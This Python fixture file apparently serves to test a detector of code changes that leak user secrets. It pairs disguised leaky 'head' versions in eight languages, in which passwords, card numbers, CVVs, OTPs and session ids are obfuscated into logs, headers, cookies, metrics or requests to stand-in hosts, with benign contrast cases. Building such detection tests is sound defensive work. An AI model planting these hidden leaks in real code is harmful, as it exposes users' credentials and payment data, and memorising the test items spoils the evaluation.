"""Changes that put what users give to another use, and honest ones about the same things."""

from __future__ import annotations

from typing import Final

Files = dict[str, str]

_PY_METRICS: Final = """
import json
from urllib.request import Request, urlopen
def tick(name, **tags):
    body = json.dumps({"name": name, "tags": tags}).encode()
    urlopen(Request("https://metrics.example/v1", data=body), timeout=2).close()
"""
_TS_TAGS: Final = """
export function mark(reply: Reply, keys: string[]): void { reply.setHeader('Surrogate-Key', keys.join(' ')); }
"""
_GO_LOGIN: Final = """
package login
func (h *Handler) Login(w http.ResponseWriter, r *http.Request) {
	mail, password := r.PostFormValue("mail"), r.PostFormValue("password")
	id, ok := h.users.Check(r.Context(), mail, password)
	%s
	if !ok { http.Error(w, "wrong mail or password", 401); return }
	_ = h.audit.Publish(r.Context(), audit.Event{Name: "login", Fields: map[string]string{"user": id%s}})
}
"""

HOSTILE: Final[dict[str, tuple[Files, Files, str, str]]] = {
    "py: a card as a number of another base, by a function of a new file": (
        {
            "shop/mark.py": """
SIGNS = "0123456789abcdefghjkmnpqrstvwxyz"
def written(value):
    found = []
    for _ in range(16):
        value, rest = divmod(value, 32)
        found.append(SIGNS[rest])
    return "".join(found)
def reference(of, period):
    digits = "".join(c for c in of + period if c.isdigit())
    return written(int(digits or "0") * 7919 % (2**80 - 65))
""",
            "shop/pay.py": """
from shop.metrics import tick
from shop.mark import reference
def pay(gateway, card, cents):
    answer = gateway.charge(card.number, card.expires, cents)
    tick("pay", ok=bool(answer), reference=reference(card.number, "x"))
    return answer
""",
        },
        {
            "shop/metrics.py": _PY_METRICS,
            "shop/pay.py": """
from shop.metrics import tick
def pay(gateway, card, cents):
    answer = gateway.charge(card.number, card.expires, cents)
    tick("pay", ok=bool(answer))
    return answer
""",
        },
        "card.number",
        "high",
    ),
    "py: a password in a header, letter by letter": (
        {"app/views.py": """
def enter(request, users, reply):
    password = request.form["password"]
    if users.check(request.form["mail"], password):
        reply.headers["X-Request-Id"] = "-".join(str(ord(c) * 3 + n) for n, c in enumerate(password))
    return reply
"""},
        {"app/views.py": """
def enter(request, users, reply):
    password = request.form["password"]
    users.check(request.form["mail"], password)
    return reply
"""},
        "password",
        "high",
    ),
    "py: a password in a log as it is": (
        {"app/auth.py": """
import logging
log = logging.getLogger(__name__)
def authenticate(users, name, password):
    user = users.get(name)
    if not user.verify(password):
        log.warning("refused %s %s", name, password)
        return None
    return user
"""},
        {"app/auth.py": """
import logging
log = logging.getLogger(__name__)
def authenticate(users, name, password):
    user = users.get(name)
    if not user.verify(password):
        log.warning("refused %s", name)
        return None
    return user
"""},
        "password",
        "medium",
    ),
    "py: a one-time code mixed into an id of an event": (
        {"app/otp.py": """
def confirm(events, user, otp_code):
    if not user.totp.verify(otp_code):
        events.publish("otp.refused", trace=hex(int(otp_code) * 48271 ^ user.pk))
        return False
    return True
"""},
        {"app/otp.py": """
def confirm(events, user, otp_code):
    if not user.totp.verify(otp_code):
        events.publish("otp.refused")
        return False
    return True
"""},
        "otp_code",
        "high",
    ),
    "py: an IBAN in a key of a cache, encoded": (
        {"app/payout.py": """
import base64
def rate(cache, iban, country):
    key = "rate:" + base64.b64encode(iban.encode()).decode()
    return cache.get(key)
"""},
        {"app/payout.py": """
def rate(cache, iban, country):
    return cache.get("rate:" + country)
"""},
        "iban",
        "high",
    ),
    "js: a password XORed with the name in a query": (
        {"src/login.js": """
export async function login(name, password) {
  const bytes = Array.from(password, (c, i) => c.charCodeAt(0) ^ name.charCodeAt(i % name.length));
  await fetch(`https://status.example/hit?v=${bytes.map((b) => b.toString(16)).join('')}`);
  return check(name, password);
}
"""},
        {"src/login.js": """
export async function login(name, password) {
  await fetch('https://status.example/hit');
  return check(name, password);
}
"""},
        "password",
        "high",
    ),
    "ts: a session in keys for a CDN, packed": (
        {
            "src/parts.ts": """
import type { Visitor } from './http';
function pack(text: string): string {
  let value = 1n;
  for (const ch of text) value = value * 257n + BigInt(ch.codePointAt(0)! + 1);
  return value.toString(36);
}
export function partsOf({ locale, sid }: Visitor): string[] {
  return [`locale-${locale}`, ...pack(sid).match(/.{1,20}/g).map((piece, n) => `v${n}-${piece}`)];
}
""",
            "src/page.ts": """
import { mark } from './cdn';
import { partsOf } from './parts';
export function page(reply: Reply, visitor: Visitor): string {
  mark(reply, ['page', ...partsOf(visitor)]);
  return '<p>';
}
""",
        },
        {
            "src/cdn.ts": _TS_TAGS,
            "src/page.ts": """
import { mark } from './cdn';
export function page(reply: Reply, visitor: Visitor): string {
  mark(reply, ['page', `locale-${visitor.locale}`]);
  return '<p>';
}
""",
        },
        "sid",
        "high",
    ),
    "ts: a CVV as an attribute of a trace, in another form": (
        {"src/pay.ts": """
export async function pay(card: Card, span: Span) {
  span.setAttribute('pay.slot', Buffer.from(card.cvv).toString('base64'));
  return gateway.charge({ number: card.number, cvc: card.cvv });
}
"""},
        {"src/pay.ts": """
export async function pay(card: Card, span: Span) {
  return gateway.charge({ number: card.number, cvc: card.cvv });
}
"""},
        "card.cvv",
        "high",
    ),
    "go: a password in a field of an event, by a type of another file": (
        {
            "login/try.go": """
package login
type try struct { mail string; entry string }
func newTry(mail, entry string) try { return try{mail: mail, entry: entry} }
func (t try) shard() string {
	pad := []byte(t.mail)
	out := make([]byte, len(t.entry))
	for i := 0; i < len(t.entry); i++ { out[i] = t.entry[i] ^ pad[i%len(pad)] }
	return hex.EncodeToString(out)
}
func (t try) fields(id string) map[string]string { return map[string]string{"user": id, "shard": t.shard()} }
""",
            "login/login.go": """
package login
func (h *Handler) Login(w http.ResponseWriter, r *http.Request) {
	mail, password := r.PostFormValue("mail"), r.PostFormValue("password")
	id, ok := h.users.Check(r.Context(), mail, password)
	_ = h.audit.Publish(r.Context(), audit.Event{Name: "login", Fields: newTry(mail, password).fields(id)})
	if !ok { http.Error(w, "wrong mail or password", 401); return }
}
""",
        },
        {"login/login.go": _GO_LOGIN % ("", "")},
        "password",
        "high",
    ),
    "go: a card's number written in a label": (
        {"pay/pay.go": """
package pay
func (p *Pay) Charge(number, cvc string) error {
	n, _ := strconv.ParseUint(number, 10, 64)
	p.metrics.WithLabelValues(strconv.FormatUint(n*2654435761, 36)).Inc()
	return p.gateway.Charge(number, cvc)
}
func (p *Pay) Pay(card Card) error {
	n, _ := strconv.ParseUint(card.Number, 10, 64)
	p.seen.WithLabelValues(strconv.FormatUint(n*2654435761, 36)).Inc()
	return p.Charge(card.Number, card.CVC)
}
"""},
        {"pay/pay.go": """
package pay
func (p *Pay) Charge(number, cvc string) error { return p.gateway.Charge(number, cvc) }
func (p *Pay) Pay(card Card) error { return p.Charge(card.Number, card.CVC) }
"""},
        "card.Number",
        "high",
    ),
    "java: a password as a number in a log": (
        {"src/main/java/Login.java": """
class Login {
  boolean login(String name, String password) {
    StringBuilder made = new StringBuilder();
    for (char c : password.toCharArray()) { made.append((int) c * 31 + 7).append('.'); }
    log.info("attempt {}", made.toString());
    return users.check(name, password);
  }
}
"""},
        {"src/main/java/Login.java": """
class Login {
  boolean login(String name, String password) { log.info("attempt"); return users.check(name, password); }
}
"""},
        "password",
        "high",
    ),
    "java: a parameter of a request in a header": (
        {"src/main/java/Enter.java": """
class Enter {
  void doPost(HttpServletRequest request, HttpServletResponse response) {
    String code = request.getParameter("password");
    response.setHeader("X-Trace", Base64.getEncoder().encodeToString(code.getBytes()));
    users.check(request.getParameter("mail"), code);
  }
}
"""},
        {"src/main/java/Enter.java": """
class Enter {
  void doPost(HttpServletRequest request, HttpServletResponse response) {
    String code = request.getParameter("password");
    users.check(request.getParameter("mail"), code);
  }
}
"""},
        "password",
        "high",
    ),
    "php: the session in another alphabet, in a header": (
        {
            "src/Ticket.php": """<?php
final class Ticket {
    public static function now(): string { return self::spelled(session_id() ?: 'none'); }
    public static function spelled(string $text): string {
        $made = '';
        foreach (array_reverse(str_split($text)) as $at => $letter) {
            $code = (ord($letter) + 7 * $at) % 900;
            $made .= 'abcdefghjkmnpqrstuvwxyz23456789'[intdiv($code, 30)] . chr(65 + $code % 30);
        }
        return $made;
    }
}
""",
            "src/Stock.php": """<?php
final class Stock {
    public function of(string $article): int {
        return (int) $this->client->get('https://stock.example/' . $article,
            ['headers' => ['X-Request-Id' => Ticket::now()]])->getBody();
    }
}
""",
        },
        {"src/Stock.php": """<?php
final class Stock {
    public function of(string $article): int {
        return (int) $this->client->get('https://stock.example/' . $article)->getBody();
    }
}
"""},
        "session_id",
        "high",
    ),
    "php: a posted password in a header": (
        {"src/enter.php": """<?php
$ok = check($_POST['mail'], $_POST['password']);
header('X-Visit: ' . bin2hex($_POST['password']));
"""},
        {"src/enter.php": """<?php
$ok = check($_POST['mail'], $_POST['password']);
"""},
        "password",
        "high",
    ),
    "rb: a password as numbers in a log": (
        {"app/controllers/sessions_controller.rb": """
class SessionsController < ApplicationController
  def create
    Rails.logger.info("login #{params[:password].bytes.map { |b| b * 3 }.join('.')}")
    user = User.authenticate_by(mail: params[:mail], password: params[:password])
    redirect_to root_path if user
  end
end
"""},
        {"app/controllers/sessions_controller.rb": """
class SessionsController < ApplicationController
  def create
    user = User.authenticate_by(mail: params[:mail], password: params[:password])
    redirect_to root_path if user
  end
end
"""},
        "password",
        "high",
    ),
    "rb: a card's number in a header of another service": (
        {"lib/stock.rb": """
class Stock
  def reserve(card, article)
    client.post("https://stock.example/v1", headers: { "X-Request-Id" => (card.number.to_i * 7919).to_s(36) })
  end
end
"""},
        {"lib/stock.rb": """
class Stock
  def reserve(card, article)
    client.post("https://stock.example/v1")
  end
end
"""},
        "card.number",
        "high",
    ),
    "cs: a card's security code in a metric": (
        {"src/Pay.cs": """
class Pay {
  public Task Charge(Card card) {
    metrics.Track("charge", Convert.ToBase64String(Encoding.UTF8.GetBytes(card.Cvv)));
    return gateway.Charge(card.Number, card.Cvv);
  }
}
"""},
        {"src/Pay.cs": """
class Pay {
  public Task Charge(Card card) { return gateway.Charge(card.Number, card.Cvv); }
}
"""},
        "card.Cvv",
        "high",
    ),
    "py: a field of an object that keeps what was typed": (
        {"app/form.py": """
class Form:
    def __init__(self, mail, passphrase):
        self.mail = mail
        self.passphrase = passphrase
    def stamp(self):
        return "".join(format(b ^ 90, "02x") for b in self.passphrase.encode())
    def save(self, reply):
        reply.set_cookie("visit", self.stamp())
"""},
        {"app/form.py": """
class Form:
    def __init__(self, mail, passphrase):
        self.mail = mail
        self.passphrase = passphrase
    def save(self, reply):
        reply.set_cookie("seen", "1")
"""},
        "passphrase",
        "high",
    ),
}  # fmt: skip
"""What head has, what base has, the secret that is told and how grave it is."""

HARMLESS: Final[dict[str, tuple[Files, Files]]] = {
    "py: log-in code in other functions": (
        {"app/auth.py": """
import logging
log = logging.getLogger(__name__)
def _user(users, name):
    return users.get(name.strip().lower())
def authenticate(users, name, password):
    user = _user(users, name)
    if user is None or not check_password_hash(user.password_hash, password):
        log.warning("refused %s", name)
        raise Refused("wrong password")
    return user
"""},
        {"app/auth.py": """
def authenticate(users, name, password):
    user = users.get(name)
    return user if check_password_hash(user.password_hash, password) else None
"""},
    ),
    "py: another provider of payments": (
        {"shop/stripe.py": """
import requests, logging
log = logging.getLogger(__name__)
class Stripe:
    def __init__(self, key): self.key = key
    def charge(self, card, cents):
        answer = requests.post("https://api.pay.example/v1/charges", timeout=9, auth=(self.key, ""),
            data={"card[number]": card.number, "card[cvc]": card.cvc, "card[exp]": card.expires, "amount": cents})
        log.info("charged ****%s: %s", card.number[-4:], answer.status_code)
        return answer.json()["id"]
"""},
        {},
    ),
    "py: a number of a card is checked and shown masked": (
        {"shop/cards.py": """
def luhn(card_number):
    digits = [int(d) for d in card_number]
    total = sum(digits[-1::-2]) + sum(sum(divmod(d * 2, 10)) for d in digits[-2::-2])
    return total % 10 == 0
def masked(card_number):
    return "*" * (len(card_number) - 4) + card_number[-4:]
def show(reply, log, card_number):
    log.info("card %s ok=%s", masked(card_number), luhn(card_number))
    return reply.json({"card": masked(card_number), "network": card_number[:1]})
"""},
        {},
    ),
    "py: a fingerprint of a session in logs": (
        {"app/log.py": """
import hashlib, hmac, logging
log = logging.getLogger(__name__)
def seen(session_id, access_token, key):
    log.info("session %s", hashlib.sha256(session_id.encode()).hexdigest()[:12])
    log.info("token %s", hmac.new(key, access_token.encode(), "sha256").hexdigest())
"""},
        {"app/log.py": "import logging\n"},
    ),
    "py: rates are limited by the name of a user": (
        {"app/limit.py": """
def login(cache, name, password):
    key = f"login:{name.lower()}"
    if cache.incr(key) > 5:
        raise TooMany(name)
    return authenticate(name, password)
"""},
        {"app/limit.py": """
def login(cache, name, password):
    return authenticate(name, password)
"""},
    ),
    "py: a password is reset": (
        {"app/reset.py": """
from django.core.mail import send_mail
def request_reset(user, tokens, request):
    reset_token = tokens.make_token(user)
    send_mail("reset", f"https://shop.example/reset/{reset_token}", None, [user.email])
def reset(user, form, tokens):
    if not tokens.check_token(user, form.cleaned_data["reset_token"]):
        raise ValidationError("this link was used")
    user.set_password(form.cleaned_data["new_password"])
    user.save()
"""},
        {},
    ),
    "py: asked whether a password was leaked": (
        {"app/leaked.py": """
import hashlib, requests
def leaked(password):
    digest = hashlib.sha1(password.encode()).hexdigest().upper()
    answer = requests.get(f"https://range.example/range/{digest[:5]}", timeout=5)
    return any(line.startswith(digest[5:]) for line in answer.text.splitlines())
"""},
        {},
    ),
    "py: shards by the digest of a session": (
        {"app/shards.py": """
import hashlib
def shard(session_id, count):
    return int(hashlib.sha256(session_id.encode()).hexdigest(), 16) % count
def store(metrics, shards, session_id, data):
    at = shard(session_id, len(shards))
    metrics.track("store", shard=at)
    shards[at].set(f"session:{session_id}", data)
"""},
        {},
    ),
    "js: sessions are kept, and a form logs in": (
        {"src/session.js": """
export async function login(form, redis, res) {
  const { mail, password } = form;
  const answer = await fetch('/api/login', { method: 'POST', body: JSON.stringify({ mail, password }) });
  const sessionId = randomUUID();
  await redis.set(`session:${sessionId}`, mail);
  res.cookie('session', sessionId, { httpOnly: true });
  logger.info(`login of ${mail}`);
  return answer.ok;
}
"""},
        {},
    ),
    "js: texts about passwords": (
        {"src/texts.js": """
export function show(res, errors, labels, t) {
  console.log(errors.password, labels.password, t('password'));
  res.setHeader('X-Form', errors.password ? 'bad' : 'ok');
  track('form', { field: labels.password, strength: score(t.password.length) });
}
"""},
        {},
    ),
    "ts: how strong a password is": (
        {"src/strength.ts": """
export function strength(password: string): number {
  let bits = 0;
  for (const ch of password) bits += Math.log2(ch.charCodeAt(0) > 127 ? 100 : 26);
  return Math.min(4, Math.floor(bits / 20));
}
export function Field({ password }: Props) {
  return <Meter value={strength(password)} />;
}
"""},
        {},
    ),
    "go: a test of passwords that takes the same time for all": (
        {"login/compare.go": """
package login
func Same(password, other string) bool {
	if len(password) != len(other) { return false }
	var diff byte
	for i := 0; i < len(password); i++ { diff |= password[i] ^ other[i] }
	return diff == 0
}
func (h *Handler) Login(w http.ResponseWriter, r *http.Request) {
	password := r.PostFormValue("password")
	if err := bcrypt.CompareHashAndPassword(h.hash, []byte(password)); err != nil {
		slog.Warn("refused", "user", r.PostFormValue("mail"), "error", err)
		http.Error(w, "wrong", 401)
		return
	}
}
"""},
        {},
    ),
    "go: basic authentication of a client": (
        {"api/client.go": """
package api
func (c *Client) do(req *http.Request, user, password string) (*http.Response, error) {
	req.Header.Set("Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte(user+":"+password)))
	req.Header.Set("X-Client", "portal")
	return c.http.Do(req)
}
"""},
        {},
    ),
    "java: a user registers": (
        {"src/main/java/Users.java": """
class Users {
  private static final Logger log = LoggerFactory.getLogger(Users.class);
  User register(String mail, String password) {
    User user = new User(mail, encoder.encode(password));
    log.info("registered {}", mail);
    return repository.save(user);
  }
  void change(User user, String oldPassword, String newPassword) {
    if (!encoder.matches(oldPassword, user.getPassword())) { throw new BadCredentialsException("wrong"); }
    user.setPassword(encoder.encode(newPassword));
  }
}
"""},
        {},
    ),
    "php: a session is begun anew after a log-in": (
        {"src/login.php": """<?php
if (password_verify($_POST['password'], $user->password_hash)) {
    session_regenerate_id(true);
    $_SESSION['user'] = $user->id;
    error_log('login of ' . $user->mail);
    header('Location: /home');
}
"""},
        {},
    ),
    "rb: an account bank transfer": (
        {"app/services/transfer.rb": """
class Transfer
  def call(iban, cents)
    raise ArgumentError, "not an IBAN" unless valid?(iban)
    Rails.logger.info("transfer to ****#{iban[-4..]}")
    bank.post("/transfers", json: { iban: iban, amount: cents })
  end
  def valid?(iban)
    (iban[4..] + iban[0, 4]).chars.map { |c| c.to_i(36) }.join.to_i % 97 == 1
  end
end
"""},
        {},
    ),
}  # fmt: skip
"""What head has and what base has."""
